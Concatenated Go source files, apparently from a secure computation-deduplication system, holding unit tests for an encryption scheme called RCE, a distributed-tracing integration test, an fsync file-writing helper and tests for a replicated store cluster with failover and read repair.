	"bytes"
	"crypto/sha256"
	"errors"
	"testing"
	"testing/quick"
)

func testFuncID(s string) FuncID {
	return FuncID(sha256.Sum256([]byte(s)))
}

func TestComputeTagDeterministic(t *testing.T) {
	id := testFuncID("zlib/1.2.11/deflate")
	in := []byte("some input data")
	if ComputeTag(id, in) != ComputeTag(id, in) {
		t.Error("same computation produced different tags")
	}
}

func TestComputeTagDistinguishesFuncAndInput(t *testing.T) {
	idA := testFuncID("zlib/1.2.11/deflate")
	idB := testFuncID("libpcre/8.41/pcre_exec")
	in1 := []byte("input one")
	in2 := []byte("input two")

	tests := []struct {
		name   string
		t1, t2 Tag
	}{
		{"different funcs, same input", ComputeTag(idA, in1), ComputeTag(idB, in1)},
		{"same func, different inputs", ComputeTag(idA, in1), ComputeTag(idA, in2)},
		{"empty vs nonempty input", ComputeTag(idA, nil), ComputeTag(idA, in1)},
	}
	for _, tt := range tests {
		if tt.t1 == tt.t2 {
			t.Errorf("%s: tags collide", tt.name)
		}
	}
}

// The length framing must make the encoding injective: an input that is
// a zero-extended version of another must hash differently.
func TestComputeTagInjectiveFraming(t *testing.T) {
	id := testFuncID("f")
	t1 := ComputeTag(id, []byte{1, 2, 3})
	t2 := ComputeTag(id, []byte{1, 2, 3, 0})
	if t1 == t2 {
		t.Error("zero-extended input collides with original")
	}
}

func TestRCERoundTrip(t *testing.T) {
	scheme := &RCE{}
	id := testFuncID("f")
	input := []byte("the input")
	result := []byte("the computed result")

	s, err := scheme.Encrypt(id, input, result)
	if err != nil {
		t.Fatalf("Encrypt: %v", err)
	}
	got, err := scheme.Decrypt(id, input, s)
	if err != nil {
		t.Fatalf("Decrypt: %v", err)
	}
	if !bytes.Equal(got, result) {
		t.Errorf("Decrypt = %q, want %q", got, result)
	}
}

func TestRCEEmptyResult(t *testing.T) {
	scheme := &RCE{}
	id := testFuncID("f")
	s, err := scheme.Encrypt(id, []byte("in"), nil)
	if err != nil {
		t.Fatalf("Encrypt: %v", err)
	}
	got, err := scheme.Decrypt(id, []byte("in"), s)
	if err != nil {
		t.Fatalf("Decrypt: %v", err)
	}
	if len(got) != 0 {
		t.Errorf("Decrypt = %q, want empty", got)
	}
}

func TestRCECiphertextHidesResult(t *testing.T) {
	scheme := &RCE{}
	result := []byte("super secret computation result value")
	s, err := scheme.Encrypt(testFuncID("f"), []byte("in"), result)
	if err != nil {
		t.Fatalf("Encrypt: %v", err)
	}
	if bytes.Contains(s.Blob, result) {
		t.Error("blob contains plaintext result")
	}
}

// The central security property (Fig. 3): a party that does not own the
// same function code and input cannot decrypt, even with the full
// (r, [k], [res]) triple.
func TestRCEQueryForgingResistance(t *testing.T) {
	scheme := &RCE{}
	id := testFuncID("f")
	input := []byte("real input")
	s, err := scheme.Encrypt(id, input, []byte("result"))
	if err != nil {
		t.Fatalf("Encrypt: %v", err)
	}

	tests := []struct {
		name  string
		id    FuncID
		input []byte
	}{
		{"wrong function", testFuncID("g"), input},
		{"wrong input", id, []byte("other input")},
		{"both wrong", testFuncID("g"), []byte("other input")},
	}
	for _, tt := range tests {
		if _, err := scheme.Decrypt(tt.id, tt.input, s); !errors.Is(err, ErrAuthFailed) {
			t.Errorf("%s: Decrypt = %v, want ErrAuthFailed", tt.name, err)
		}
	}
}

// Cache poisoning (Section III-D): tampering with any stored component
// must be detected as ⊥.
func TestRCETamperDetection(t *testing.T) {
	scheme := &RCE{}
	id := testFuncID("f")
	input := []byte("in")
	fresh := func() Sealed {
		s, err := scheme.Encrypt(id, input, []byte("result"))
		if err != nil {
			t.Fatalf("Encrypt: %v", err)
		}
		return s
	}

	tests := []struct {
		name   string
		mutate func(*Sealed)
	}{
		{"flip challenge bit", func(s *Sealed) { s.Challenge[0] ^= 1 }},
		{"flip wrapped key bit", func(s *Sealed) { s.WrappedKey[0] ^= 1 }},
		{"flip blob bit", func(s *Sealed) { s.Blob[len(s.Blob)-1] ^= 1 }},
		{"truncate blob", func(s *Sealed) { s.Blob = s.Blob[:4] }},
		{"empty wrapped key", func(s *Sealed) { s.WrappedKey = nil }},
		{"drop challenge", func(s *Sealed) { s.Challenge = nil }},
	}
	for _, tt := range tests {
		s := fresh()
		tt.mutate(&s)
		if _, err := scheme.Decrypt(id, input, s); !errors.Is(err, ErrAuthFailed) {
			t.Errorf("%s: Decrypt = %v, want ErrAuthFailed", tt.name, err)
		}
	}
}

// Cross-application reuse without any shared key: two independent RCE
// instances (two applications) interoperate as long as they own the
// same computation.
func TestRCECrossApplication(t *testing.T) {
	appA := &RCE{}
	appB := &RCE{}
	id := testFuncID("shared-func")
	input := []byte("shared input")
	result := []byte("shared result")

	s, err := appA.Encrypt(id, input, result)
	if err != nil {
		t.Fatalf("Encrypt: %v", err)
	}
	got, err := appB.Decrypt(id, input, s)
	if err != nil {
		t.Fatalf("cross-app Decrypt: %v", err)
	}
	if !bytes.Equal(got, result) {
		t.Errorf("cross-app Decrypt = %q, want %q", got, result)
	}
}

// Encryptions are randomized: the same computation encrypted twice must
// produce different ciphertexts and different wrapped keys (RCE is a
// randomized MLE scheme), while the tag stays deterministic.
func TestRCERandomized(t *testing.T) {
	scheme := &RCE{}
	id := testFuncID("f")
	input := []byte("in")
	s1, err := scheme.Encrypt(id, input, []byte("result"))
	if err != nil {
		t.Fatalf("Encrypt: %v", err)
	}
	s2, err := scheme.Encrypt(id, input, []byte("result"))
	if err != nil {
		t.Fatalf("Encrypt: %v", err)
	}
	if bytes.Equal(s1.Blob, s2.Blob) {
		t.Error("two encryptions produced identical blobs")
	}
	if bytes.Equal(s1.WrappedKey, s2.WrappedKey) {
		t.Error("two encryptions produced identical wrapped keys")
	}
	if bytes.Equal(s1.Challenge, s2.Challenge) {
		t.Error("two encryptions produced identical challenges")
	}
}

func TestKeyGenKeyRecRoundTrip(t *testing.T) {
	id := testFuncID("f")
	input := []byte("some input")
	challenge, wrapped, key, err := KeyGen(id, input, nil)
	if err != nil {
		t.Fatalf("KeyGen: %v", err)
	}
	rec, err := KeyRec(id, input, challenge, wrapped)
	if err != nil {
		t.Fatalf("KeyRec: %v", err)
	}
	if !bytes.Equal(rec, key) {
		t.Errorf("KeyRec = %x, want %x", rec, key)
	}
}

func TestKeyRecWrongInputYieldsWrongKey(t *testing.T) {
	id := testFuncID("f")
	challenge, wrapped, key, err := KeyGen(id, []byte("input A"), nil)
	if err != nil {
		t.Fatalf("KeyGen: %v", err)
	}
	rec, err := KeyRec(id, []byte("input B"), challenge, wrapped)
	if err != nil {
		t.Fatalf("KeyRec: %v", err)
	}
	if bytes.Equal(rec, key) {
		t.Error("wrong input recovered the correct key")
	}
}

func TestEncryptDecryptResult(t *testing.T) {
	key, err := GenerateKey(nil)
	if err != nil {
		t.Fatalf("GenerateKey: %v", err)
	}
	blob, err := EncryptResult(key, []byte("payload"), nil)
	if err != nil {
		t.Fatalf("EncryptResult: %v", err)
	}
	got, err := DecryptResult(key, blob)
	if err != nil {
		t.Fatalf("DecryptResult: %v", err)
	}
	if string(got) != "payload" {
		t.Errorf("DecryptResult = %q, want %q", got, "payload")
	}
	other, err := GenerateKey(nil)
	if err != nil {
		t.Fatalf("GenerateKey: %v", err)
	}
	if _, err := DecryptResult(other, blob); !errors.Is(err, ErrAuthFailed) {
		t.Errorf("wrong-key DecryptResult = %v, want ErrAuthFailed", err)
	}
	if _, err := DecryptResult(key, blob[:5]); !errors.Is(err, ErrAuthFailed) {
		t.Errorf("short-blob DecryptResult = %v, want ErrAuthFailed", err)
	}
}

func TestSingleKeyRoundTrip(t *testing.T) {
	var key [KeySize]byte
	copy(key[:], "0123456789abcdef")
	scheme := NewSingleKey(key, nil)
	id := testFuncID("f")
	input := []byte("in")

	s, err := scheme.Encrypt(id, input, []byte("result"))
	if err != nil {
		t.Fatalf("Encrypt: %v", err)
	}
	got, err := scheme.Decrypt(id, input, s)
	if err != nil {
		t.Fatalf("Decrypt: %v", err)
	}
	if string(got) != "result" {
		t.Errorf("Decrypt = %q, want %q", got, "result")
	}
}

func TestSingleKeyBindsComputation(t *testing.T) {
	var key [KeySize]byte
	copy(key[:], "0123456789abcdef")
	scheme := NewSingleKey(key, nil)
	s, err := scheme.Encrypt(testFuncID("f"), []byte("in"), []byte("result"))
	if err != nil {
		t.Fatalf("Encrypt: %v", err)
	}
	// Even with the shared key, a ciphertext cannot be replayed for a
	// different computation thanks to the tag-bound associated data.
	if _, err := scheme.Decrypt(testFuncID("g"), []byte("in"), s); !errors.Is(err, ErrAuthFailed) {
		t.Errorf("spliced Decrypt = %v, want ErrAuthFailed", err)
	}
}

func TestSingleKeyWrongKeyFails(t *testing.T) {
	var k1, k2 [KeySize]byte
	copy(k1[:], "0123456789abcdef")
	copy(k2[:], "fedcba9876543210")
	s, err := NewSingleKey(k1, nil).Encrypt(testFuncID("f"), []byte("in"), []byte("r"))
	if err != nil {
		t.Fatalf("Encrypt: %v", err)
	}
	if _, err := NewSingleKey(k2, nil).Decrypt(testFuncID("f"), []byte("in"), s); !errors.Is(err, ErrAuthFailed) {
		t.Errorf("wrong-key Decrypt = %v, want ErrAuthFailed", err)
	}
}

// Property: for arbitrary (funcID seed, input, result), RCE round-trips
// and the recovered plaintext matches exactly.
func TestQuickRCERoundTrip(t *testing.T) {
	scheme := &RCE{}
	prop := func(seed string, input, result []byte) bool {
		id := testFuncID(seed)
		s, err := scheme.Encrypt(id, input, result)
		if err != nil {
			return false
		}
		got, err := scheme.Decrypt(id, input, s)
		if err != nil {
			return false
		}
		return bytes.Equal(got, result)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 64}); err != nil {
		t.Error(err)
	}
}

// Property: decrypting with a perturbed input always fails
// authentication (never silently yields wrong plaintext).
func TestQuickRCEWrongInputAlwaysRejected(t *testing.T) {
	scheme := &RCE{}
	prop := func(input, result []byte, flip uint8) bool {
		id := testFuncID("fixed")
		s, err := scheme.Encrypt(id, input, result)
		if err != nil {
			return false
		}
		wrong := append([]byte(nil), input...)
		if len(wrong) == 0 {
			wrong = []byte{0}
		} else {
			wrong[int(flip)%len(wrong)] ^= 1
		}
		_, err = scheme.Decrypt(id, wrong, s)
		return errors.Is(err, ErrAuthFailed)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 64}); err != nil {
		t.Error(err)
	}
}

// Property: tags are deterministic and input-sensitive.
func TestQuickTagDeterministicAndSensitive(t *testing.T) {
	prop := func(seed string, input []byte, flip uint8) bool {
		id := testFuncID(seed)
		t1 := ComputeTag(id, input)
		if t1 != ComputeTag(id, input) {
			return false
		}
		wrong := append([]byte(nil), input...)
		if len(wrong) == 0 {
			wrong = []byte{1}
		} else {
			wrong[int(flip)%len(wrong)] ^= 1
		}
		return t1 != ComputeTag(id, wrong)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 128}); err != nil {
		t.Error(err)
	}
}
