package integration

import (
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"speed/internal/cluster"
	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/fleet"
	"speed/internal/mle"
	"speed/internal/store"
	"speed/internal/telemetry"
	"speed/internal/wire"
)

// tracedClusterEnv is a 3-node store fleet where every process — the
// application runtime and each store server — records spans into its
// own telemetry registry, as separate machines would.
type tracedClusterEnv struct {
	appReg    *telemetry.Registry
	nodeRegs  []*telemetry.Registry
	nodeAddrs []string
	storeMeas enclave.Measurement
	rt        *dedup.Runtime
	funcID    func(sig string) mle.FuncID
}

func newTracedCluster(t *testing.T, nodes int) *tracedClusterEnv {
	t.Helper()
	p := enclave.NewPlatform(enclave.Config{SimulateCosts: false})
	appEnc, err := p.Create("traced-app", []byte("traced app code"))
	if err != nil {
		t.Fatal(err)
	}
	env := &tracedClusterEnv{appReg: telemetry.NewRegistry()}
	env.appReg.SetNode("app-client")

	storeCode := []byte("traced store code v1")
	for i := 0; i < nodes; i++ {
		enc, err := p.Create(fmt.Sprintf("traced-store-%d", i), storeCode)
		if err != nil {
			t.Fatal(err)
		}
		env.storeMeas = enc.Measurement()
		reg := telemetry.NewRegistry()
		st, err := store.New(store.Config{Enclave: enc, Telemetry: reg})
		if err != nil {
			t.Fatal(err)
		}
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		reg.SetNode(ln.Addr().String())
		srv := store.NewServer(st, ln,
			store.WithTelemetry(reg),
			store.WithLogf(func(string, ...any) {}))
		go func() { _ = srv.Serve() }()
		t.Cleanup(func() { _ = srv.Close(); st.Close() })
		env.nodeRegs = append(env.nodeRegs, reg)
		env.nodeAddrs = append(env.nodeAddrs, ln.Addr().String())
	}

	cc, err := cluster.New(cluster.Config{
		Nodes:            env.nodeAddrs,
		Replicas:         2,
		App:              appEnc,
		StoreMeasurement: env.storeMeas,
		Telemetry:        env.appReg,
		Logf:             func(string, ...any) {},
		Remote: dedup.RemoteConfig{
			DialTimeout:    time.Second,
			RequestTimeout: 2 * time.Second,
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	rt, err := dedup.NewRuntime(dedup.Config{
		Enclave:         appEnc,
		Client:          cc,
		Telemetry:       env.appReg,
		TraceSampleRate: 1, // sample every call
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = rt.Close() })
	env.rt = rt
	rt.Registry().RegisterLibrary("tracelib", "1.0", []byte("trace lib"))
	env.funcID = func(sig string) mle.FuncID {
		id, err := rt.Resolve(dedup.FuncDesc{Library: "tracelib", Version: "1.0", Signature: sig})
		if err != nil {
			t.Fatal(err)
		}
		return id
	}
	return env
}

// statuses snapshots every registry's trace ring the way speedtop's
// poller would after scraping each process.
func (env *tracedClusterEnv) statuses() []fleet.NodeStatus {
	sts := []fleet.NodeStatus{{Addr: "app-client", Events: env.appReg.Trace().Events()}}
	for i, reg := range env.nodeRegs {
		sts = append(sts, fleet.NodeStatus{Addr: env.nodeAddrs[i], Events: reg.Trace().Events()})
	}
	return sts
}

// TestDistributedTraceAcrossCluster drives sampled Execute calls
// through a real 3-node fleet and asserts the spans recorded by the
// client runtime, the cluster router, and the store servers assemble
// into one parent-linked tree per call.
func TestDistributedTraceAcrossCluster(t *testing.T) {
	env := newTracedCluster(t, 3)
	id := env.funcID("traced(x)")
	compute := func(in []byte) ([]byte, error) { return append([]byte("out:"), in...), nil }

	// First call computes and replicates the PUT; second call hits.
	for i := 0; i < 2; i++ {
		if _, _, err := env.rt.Execute(id, []byte("traced-input"), compute); err != nil {
			t.Fatalf("execute %d: %v", i, err)
		}
	}
	// AsyncPut is off, so both calls' spans are recorded by now.
	traces := fleet.Assemble(env.statuses())
	if len(traces) != 2 {
		t.Fatalf("assembled %d traces, want 2", len(traces))
	}
	for _, tr := range traces {
		if !tr.Complete() {
			t.Errorf("trace %s did not assemble: root=%v orphans=%d",
				tr.ID, tr.Root, len(tr.Orphans))
			continue
		}
		if tr.Root.Event.Name != "execute" || tr.Root.Event.Node != "app-client" {
			t.Errorf("trace %s root = %s@%s, want execute@app-client",
				tr.ID, tr.Root.Event.Name, tr.Root.Event.Node)
		}
	}

	// The computing call replicates its PUT to 2 members, so its spans
	// must span the client plus at least 2 distinct store nodes, with
	// every store span a grandchild (root -> router leg -> store).
	var computed *fleet.Trace
	for _, tr := range traces {
		if tr.Root != nil && tr.Root.Event.Outcome == "computed" {
			computed = tr
		}
	}
	if computed == nil {
		t.Fatalf("no computed-outcome trace among %d traces", len(traces))
	}
	storeNodes := make(map[string]bool)
	legOps := make(map[string]bool)
	computed.Walk(func(depth int, s *fleet.Span) {
		switch {
		case strings.HasPrefix(s.Event.Name, "route_"):
			legOps[s.Event.Name] = true
			if depth != 1 {
				t.Errorf("leg %s at depth %d, want 1", s.Event.Name, depth)
			}
		case strings.HasPrefix(s.Event.Name, "store_"):
			storeNodes[s.Event.Node] = true
			if depth != 2 {
				t.Errorf("store span %s@%s at depth %d, want 2 (root->leg->store)",
					s.Event.Name, s.Event.Node, depth)
			}
		}
	})
	if len(storeNodes) < 2 {
		t.Errorf("computed trace touched %d store nodes, want >= 2 (replicated put): %v",
			len(storeNodes), storeNodes)
	}
	if !legOps["route_get"] || !legOps["route_put"] {
		t.Errorf("computed trace legs = %v, want route_get and route_put", legOps)
	}

	// The hit call's store_get span must parent-link through its leg to
	// the root and carry queue_wait/handle phases.
	var hit *fleet.Trace
	for _, tr := range traces {
		if tr.Root != nil && tr.Root.Event.Outcome == "reused" {
			hit = tr
		}
	}
	if hit == nil {
		t.Fatal("no reused-outcome trace")
	}
	foundStoreGet := false
	hit.Walk(func(depth int, s *fleet.Span) {
		if s.Event.Name != "store_get" {
			return
		}
		foundStoreGet = true
		phases := make(map[string]bool)
		for _, ph := range s.Event.Phases {
			phases[ph.Name] = true
		}
		if !phases["queue_wait"] || !phases["handle"] {
			t.Errorf("store_get phases = %v, want queue_wait and handle", s.Event.Phases)
		}
	})
	if !foundStoreGet {
		t.Error("hit trace has no store_get span")
	}
}

// TestTraceFeatureInteropV2WithoutTrace pins down wire compatibility:
// a v2 peer that does not offer the trace feature (an older build)
// negotiates it off against a current store server, and plain
// envelopes round trip unchanged.
func TestTraceFeatureInteropV2WithoutTrace(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{SimulateCosts: false})
	appEnc, err := p.Create("old-app", []byte("old app code"))
	if err != nil {
		t.Fatal(err)
	}
	storeEnc, err := p.Create("interop-store", []byte("interop store code"))
	if err != nil {
		t.Fatal(err)
	}
	st, err := store.New(store.Config{Enclave: storeEnc})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := store.NewServer(st, ln, store.WithLogf(func(string, ...any) {}))
	go func() { _ = srv.Serve() }()
	defer srv.Close()

	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	// features=0: the old peer does not know the trace field exists.
	ch, err := wire.ClientHandshakeOptions(conn, appEnc, storeEnc.Measurement(), nil, wire.MaxProtocol, 0)
	if err != nil {
		t.Fatalf("handshake without trace feature: %v", err)
	}
	if ch.TraceEnabled() {
		t.Fatal("trace feature negotiated on despite the client not offering it")
	}

	var tag [len(wire.GetRequest{}.Tag)]byte
	copy(tag[:], "interop-tag")
	if err := ch.SendEnvelope(7, &wire.GetRequest{Tag: tag}); err != nil {
		t.Fatal(err)
	}
	payload, err := ch.Recv()
	if err != nil {
		t.Fatal(err)
	}
	id, tc, msg, err := ch.ParseEnvelope(payload)
	if err != nil {
		t.Fatalf("parse plain envelope: %v", err)
	}
	if id != 7 {
		t.Fatalf("request id = %d, want 7", id)
	}
	if tc.Valid() {
		t.Fatalf("unexpected trace context on a traceless channel: %+v", tc)
	}
	resp, ok := msg.(wire.GetResponse)
	if !ok || resp.Found {
		t.Fatalf("response = %#v, want not-found GetResponse", msg)
	}
}
