package store

import "os"

// writeFileSync is os.WriteFile with durability: the data is fsynced
// before the file is closed, so a crash after return cannot lose an
// acknowledged write. (Plain os.WriteFile leaves the content in the
// page cache only — the fsyncorder analyzer rejects that on success
// paths.)
func writeFileSync(path string, data []byte, perm os.FileMode) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, perm)
	if err != nil {
		return err
	}
	if _, err := f.Write(data); err != nil {
		f.Close()
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// syncDir fsyncs a directory so renames and newly created entries in
// it survive a crash.
func syncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	if err := d.Sync(); err != nil {
		d.Close()
		return err
	}
	return d.Close()
}
