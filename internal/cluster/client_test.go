package cluster

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"net"
	"sync"
	"testing"
	"time"

	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/store"
	"speed/internal/wire"
)

func ctag(s string) mle.Tag {
	h := sha256.Sum256([]byte("cluster-test-" + s))
	var t mle.Tag
	copy(t[:], h[:])
	return t
}

func csealed(s string) mle.Sealed {
	return mle.Sealed{
		Challenge:  []byte("challenge-" + s),
		WrappedKey: []byte("wrapped-" + s),
		Blob:       []byte("blob-" + s),
	}
}

// testNode is one ring member: its store plus the server serving it.
type testNode struct {
	st   *store.Store
	srv  *store.Server
	addr string

	mu sync.Mutex
	wg sync.WaitGroup
}

// kill shuts the member's server down (the store object survives, as a
// crashed-but-recoverable machine's disk would).
func (n *testNode) kill(t *testing.T) {
	t.Helper()
	n.mu.Lock()
	srv := n.srv
	n.srv = nil
	n.mu.Unlock()
	if srv == nil {
		return
	}
	if err := srv.Close(); err != nil {
		t.Fatalf("close server %s: %v", n.addr, err)
	}
	n.wg.Wait()
}

// restart brings the member back on its previous address with its
// previous store contents.
func (n *testNode) restart(t *testing.T) {
	t.Helper()
	ln, err := net.Listen("tcp", n.addr)
	if err != nil {
		t.Fatalf("relisten %s: %v", n.addr, err)
	}
	srv := store.NewServer(n.st, ln, store.WithLogf(func(string, ...any) {}))
	n.mu.Lock()
	n.srv = srv
	n.mu.Unlock()
	n.wg.Add(1)
	go func() {
		defer n.wg.Done()
		_ = srv.Serve()
	}()
}

type testClusterEnv struct {
	app       *enclave.Enclave
	storeMeas enclave.Measurement
	nodes     []*testNode
	client    *Client
}

// hasTag checks a member's store directly, without touching the wire.
func (e *testClusterEnv) hasTag(ni int, tag mle.Tag) bool {
	_, found, _ := e.nodes[ni].st.Get(tag)
	return found
}

// newTestCluster starts n real store servers — same store code bytes
// (so one shared measurement, as in a real fleet), distinct enclave
// names — and a cluster client over them. cfg.Nodes/App/
// StoreMeasurement are filled in; a zero cfg.Remote gets fast-failure
// test timeouts.
func newTestCluster(t *testing.T, n int, cfg Config) *testClusterEnv {
	t.Helper()
	p := enclave.NewPlatform(enclave.Config{})
	app, err := p.Create("app", []byte("app code"))
	if err != nil {
		t.Fatalf("create app enclave: %v", err)
	}
	env := &testClusterEnv{app: app}
	storeCode := []byte("store code v1")
	for i := 0; i < n; i++ {
		enc, err := p.Create(fmt.Sprintf("store-%d", i), storeCode)
		if err != nil {
			t.Fatalf("create store enclave %d: %v", i, err)
		}
		env.storeMeas = enc.Measurement()
		st, err := store.New(store.Config{Enclave: enc})
		if err != nil {
			t.Fatalf("store.New %d: %v", i, err)
		}
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatalf("listen %d: %v", i, err)
		}
		node := &testNode{st: st, addr: ln.Addr().String()}
		srv := store.NewServer(st, ln, store.WithLogf(func(string, ...any) {}))
		node.srv = srv
		node.wg.Add(1)
		go func() {
			defer node.wg.Done()
			_ = srv.Serve()
		}()
		env.nodes = append(env.nodes, node)
	}

	cfg.App = app
	cfg.StoreMeasurement = env.storeMeas
	for _, node := range env.nodes {
		cfg.Nodes = append(cfg.Nodes, node.addr)
	}
	if cfg.Remote == (dedup.RemoteConfig{}) {
		cfg.Remote = dedup.RemoteConfig{
			DialTimeout:    300 * time.Millisecond,
			RequestTimeout: time.Second,
			MaxRetries:     -1,
		}
	}
	if cfg.Logf == nil {
		cfg.Logf = t.Logf
	}
	client, err := New(cfg)
	if err != nil {
		t.Fatalf("cluster.New: %v", err)
	}
	env.client = client
	t.Cleanup(func() {
		_ = client.Close()
		for _, node := range env.nodes {
			node.kill(t)
		}
	})
	return env
}

func TestClusterGetPutReplicates(t *testing.T) {
	env := newTestCluster(t, 3, Config{Replicas: 2})
	tag, sealed := ctag("alpha"), csealed("alpha")

	if _, found, err := env.client.Get(tag); err != nil || found {
		t.Fatalf("Get on empty cluster = (found=%v, %v), want miss", found, err)
	}
	if err := env.client.Put(tag, sealed, false); err != nil {
		t.Fatalf("Put: %v", err)
	}
	got, found, err := env.client.Get(tag)
	if err != nil || !found {
		t.Fatalf("Get = (found=%v, %v)", found, err)
	}
	if !bytes.Equal(got.Blob, sealed.Blob) {
		t.Errorf("Get blob = %q, want %q", got.Blob, sealed.Blob)
	}

	// The put must land on exactly the tag's two ring owners.
	owners := env.client.ring.owners(tag, 2)
	copies := 0
	for ni := range env.nodes {
		if env.hasTag(ni, tag) {
			copies++
			if ni != owners[0] && ni != owners[1] {
				t.Errorf("tag stored on non-owner member %d (owners %v)", ni, owners)
			}
		}
	}
	if copies != 2 {
		t.Errorf("tag stored on %d members, want 2 replicas", copies)
	}
}

func TestClusterBatchPositional(t *testing.T) {
	env := newTestCluster(t, 3, Config{Replicas: 2})
	const present = 20
	items := make([]wire.PutItem, present)
	for i := range items {
		items[i] = wire.PutItem{Tag: ctag(fmt.Sprintf("b%d", i)), Sealed: csealed(fmt.Sprintf("b%d", i))}
	}
	prs, err := env.client.PutBatch(items)
	if err != nil {
		t.Fatalf("PutBatch: %v", err)
	}
	if len(prs) != present {
		t.Fatalf("PutBatch returned %d results, want %d", len(prs), present)
	}
	for i, pr := range prs {
		if !pr.OK {
			t.Errorf("item %d rejected: %s", i, pr.Err)
		}
	}

	// Interleave misses with hits; results must stay positional.
	var tags []mle.Tag
	var wantBlob [][]byte // nil = expect a miss
	next := 0
	for i := 0; i < present+5; i++ {
		if i%5 == 4 {
			tags = append(tags, ctag(fmt.Sprintf("missing%d", i)))
			wantBlob = append(wantBlob, nil)
			continue
		}
		tags = append(tags, items[next].Tag)
		wantBlob = append(wantBlob, items[next].Sealed.Blob)
		next++
	}
	grs, err := env.client.GetBatch(tags)
	if err != nil {
		t.Fatalf("GetBatch: %v", err)
	}
	if len(grs) != len(tags) {
		t.Fatalf("GetBatch returned %d results, want %d", len(grs), len(tags))
	}
	for i, gr := range grs {
		want := wantBlob[i]
		if gr.Found != (want != nil) {
			t.Errorf("result %d: found=%v, want %v", i, gr.Found, want != nil)
			continue
		}
		if want != nil && !bytes.Equal(gr.Sealed.Blob, want) {
			t.Errorf("result %d: blob %q, want %q", i, gr.Sealed.Blob, want)
		}
	}
}

func TestClusterFailoverGet(t *testing.T) {
	env := newTestCluster(t, 3, Config{
		Replicas:      2,
		FailThreshold: 1,
		ProbeInterval: time.Hour, // keep probes out of the way
	})
	tag, sealed := ctag("failover"), csealed("failover")
	if err := env.client.Put(tag, sealed, false); err != nil {
		t.Fatalf("Put: %v", err)
	}
	primary := env.client.ring.owners(tag, 1)[0]
	env.nodes[primary].kill(t)

	got, found, err := env.client.Get(tag)
	if err != nil || !found {
		t.Fatalf("Get after primary death = (found=%v, %v), want replica hit", found, err)
	}
	if !bytes.Equal(got.Blob, sealed.Blob) {
		t.Errorf("failover Get blob = %q, want %q", got.Blob, sealed.Blob)
	}
	if env.client.Failovers() == 0 {
		t.Error("failover not counted")
	}
	if env.client.NodeUp(primary) {
		t.Error("dead primary still marked up after FailThreshold failures")
	}
	// With the primary marked down, further reads route straight to the
	// replica.
	if _, found, err := env.client.Get(tag); err != nil || !found {
		t.Fatalf("steady-state Get after failover = (found=%v, %v)", found, err)
	}
}

func TestClusterReadRepair(t *testing.T) {
	env := newTestCluster(t, 2, Config{
		Replicas:      1,
		FailThreshold: 1000, // primary stays nominally up through the outage
		ProbeInterval: time.Hour,
		Remote: dedup.RemoteConfig{
			DialTimeout:     300 * time.Millisecond,
			RequestTimeout:  time.Second,
			MaxRetries:      20,
			RetryBackoff:    10 * time.Millisecond,
			RetryMaxBackoff: 50 * time.Millisecond,
		},
	})
	tag, sealed := ctag("repairme"), csealed("repairme")
	primary := env.client.ring.owners(tag, 1)[0]
	other := 1 - primary

	// The result lives only on the non-primary (e.g. it was written
	// there while the primary was down).
	if _, err := env.nodes[other].st.Put(env.app.Measurement(), tag, sealed); err != nil {
		t.Fatalf("direct put: %v", err)
	}
	env.nodes[primary].kill(t)

	_, found, err := env.client.Get(tag)
	if err != nil || !found {
		t.Fatalf("Get = (found=%v, %v), want failover hit", found, err)
	}

	// The repair is queued (the primary is still nominally up) and its
	// PutBatch retries with backoff; bring the primary back so it lands.
	env.nodes[primary].restart(t)
	env.client.repairWG.Wait()
	if !env.hasTag(primary, tag) {
		t.Error("read repair did not copy the result back to the primary")
	}
	if env.client.ReadRepairs() == 0 {
		t.Error("read repair not counted")
	}
}

func TestClusterPing(t *testing.T) {
	env := newTestCluster(t, 3, Config{ProbeInterval: time.Hour})
	if err := env.client.Ping(); err != nil {
		t.Fatalf("Ping: %v", err)
	}
	for _, n := range env.nodes {
		n.kill(t)
	}
	if err := env.client.Ping(); err == nil {
		t.Fatal("Ping succeeded with every member dead")
	}
}

func TestClusterV1Protocol(t *testing.T) {
	env := newTestCluster(t, 3, Config{
		Replicas: 2,
		Remote: dedup.RemoteConfig{
			MaxProtocol:    wire.ProtocolV1,
			DialTimeout:    300 * time.Millisecond,
			RequestTimeout: time.Second,
			MaxRetries:     -1,
		},
	})
	tag, sealed := ctag("v1"), csealed("v1")
	if err := env.client.Put(tag, sealed, false); err != nil {
		t.Fatalf("Put: %v", err)
	}
	got, found, err := env.client.Get(tag)
	if err != nil || !found || !bytes.Equal(got.Blob, sealed.Blob) {
		t.Fatalf("Get = (%q, found=%v, %v)", got.Blob, found, err)
	}
	if err := env.client.Ping(); err != nil {
		t.Fatalf("Ping over v1: %v", err)
	}
	items := []wire.PutItem{
		{Tag: ctag("v1a"), Sealed: csealed("v1a")},
		{Tag: ctag("v1b"), Sealed: csealed("v1b")},
	}
	if _, err := env.client.PutBatch(items); err != nil {
		t.Fatalf("PutBatch over v1: %v", err)
	}
	grs, err := env.client.GetBatch([]mle.Tag{items[0].Tag, ctag("v1-missing"), items[1].Tag})
	if err != nil {
		t.Fatalf("GetBatch over v1: %v", err)
	}
	if !grs[0].Found || grs[1].Found || !grs[2].Found {
		t.Errorf("GetBatch found flags = [%v %v %v], want [true false true]",
			grs[0].Found, grs[1].Found, grs[2].Found)
	}
}

